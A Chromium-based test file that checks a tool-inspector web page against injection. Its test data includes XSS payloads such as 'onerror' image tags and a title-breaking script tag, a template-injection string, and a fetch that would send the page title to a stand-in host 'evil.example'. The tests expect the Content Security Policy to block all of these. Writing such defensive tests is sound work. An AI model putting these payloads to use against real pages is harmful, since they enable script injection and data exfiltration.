import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { inspectorHtml, startInspector } from '../../src/inspect/start-inspector.ts';
import { noChromium, type OpenPage, useChromium, type View } from '../support/chromium.ts';
import { useInspectPage } from '../support/inspect-page.ts';
import { hostileTools } from './hostile-tools.ts';

const tools = hostileTools();
const cases = tools
  .filter(({ name }) => /^tool_/.test(name))
  .map(({ name }) => ({ query: `<img src=x onerror=ran()> ${name}`, relevant: [name] }));
const options = { tools, cases, title: `</title><script>globalThis.ran = 'title'</script>` };

/** Runs where a text of a tool ran, which leaves its mark. */
const MARK = `String(globalThis.ran ?? document.documentElement.dataset.ran ?? '')`;

describe.skipIf(noChromium !== undefined)(
  `hostile tools in Chromium${noChromium ? `, skipped: ${noChromium}` : ''}`,
  () => {
    useInspectPage();
    const chromium = useChromium();
    const closing: (() => Promise<void>)[] = [];
    afterEach(async () => {
      for (const close of closing.splice(0)) await close();
    });

    async function served(view?: View): Promise<OpenPage> {
      const inspector = await startInspector(options);
      closing.push(() => inspector.close());
      return chromium.open(inspector.url, view);
    }

    let file = '';
    beforeAll(async () => {
      const folder = await mkdtemp(path.join(tmpdir(), 'inspect-'));
      file = path.join(folder, 'report.html');
      await writeFile(file, await inspectorHtml(options));
      return () => rm(folder, { recursive: true });
    });

    it.each([
      ['from the server', () => served()],
      ['from a file', () => chromium.open(pathToFileURL(file).href)],
      [
        'from a file on a small screen',
        () => chromium.open(pathToFileURL(file).href, { width: 400, theme: 'dark' as const }),
      ],
    ])('do nothing in any view: %s', async (_, open) => {
      const { page, problems } = await open();
      const tabs = await page.evaluate<string[]>(`Array.from(document.querySelectorAll('nav a'), ({ hash }) => hash)`);
      expect(tabs.length).toBeGreaterThan(3);
      for (const hash of tabs) {
        await page.goto(new URL(hash, page.url()).href);
        await page.waitForTimeout(150);
      }
      for (const { name } of tools) {
        await page.goto(new URL(`#/tools/${encodeURIComponent(name)}`, page.url()).href);
        await page.waitForTimeout(30);
      }
      await page.goto(new URL('#/search', page.url()).href);
      for (const query of [
        `<script>ran()</script> email`,
        'email',
        '"><img src=x onerror=ran()>',
        '{{ran()}}',
        '__proto__',
      ]) {
        await page.locator('[data-search]').fill(query);
        await page.waitForTimeout(100);
      }
      expect(await page.evaluate(MARK)).toBe('');
      expect(problems).toEqual([]);
    });

    it('cannot load or send anything, even if a text became a script', async () => {
      const { page, problems } = await served();
      const tried = await page.evaluate<readonly string[]>(`(async () => {
      const element = document.createElement('div');
      document.body.append(element);
      element.innerHTML = '<img src=x onerror="globalThis.ran = 1"><a href="javascript:ran()">x</a><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>';
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = 2';
      document.body.append(script);
      const sent = await fetch('https://evil.example/?' + document.title).then(() => 'sent', () => 'refused');
      await new Promise((resolve) => setTimeout(resolve, 200));
      return [sent, String(globalThis.ran)];
    })()`);
      expect(tried).toEqual(['refused', 'undefined']);
      expect(problems.length).toBeGreaterThan(3);
      expect(problems.every((problem) => /Content Security Policy/.test(problem))).toBe(true);
    });

    it('cannot be shown inside another page', async () => {
      const inspector = await startInspector(options);
      closing.push(() => inspector.close());
      const { page } = await chromium.open(pathToFileURL(file).href);
      const context = await page.context().browser()!.newContext({ bypassCSP: true });
      closing.push(() => context.close());
      const other = await context.newPage();
      await other.setContent(`<iframe src="${inspector.url}"></iframe>`);
      await other.waitForTimeout(300);
      const frame = other.frames()[1];
      expect(await frame?.locator('#inspect').count()).toBe(0);
    });

    it('takes the token out of the address, and opens again without it', async () => {
      const { page, problems } = await served();
      expect(new URL(page.url()).search).toBe('');
      await page.reload();
      await page.locator('main h2').first().waitFor();
      expect(problems).toEqual([]);
    });

    it('asks the server from the page, as the policy lets it', async () => {
      const { page } = await served();
      const answer = await page.evaluate(`fetch(location.href, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ask: 'permitted', requestContext: {} }),
    }).then((response) => response.json())`);
      expect(answer).toMatchObject({ search: expect.arrayContaining(['send_email']) });
    });
  },
);
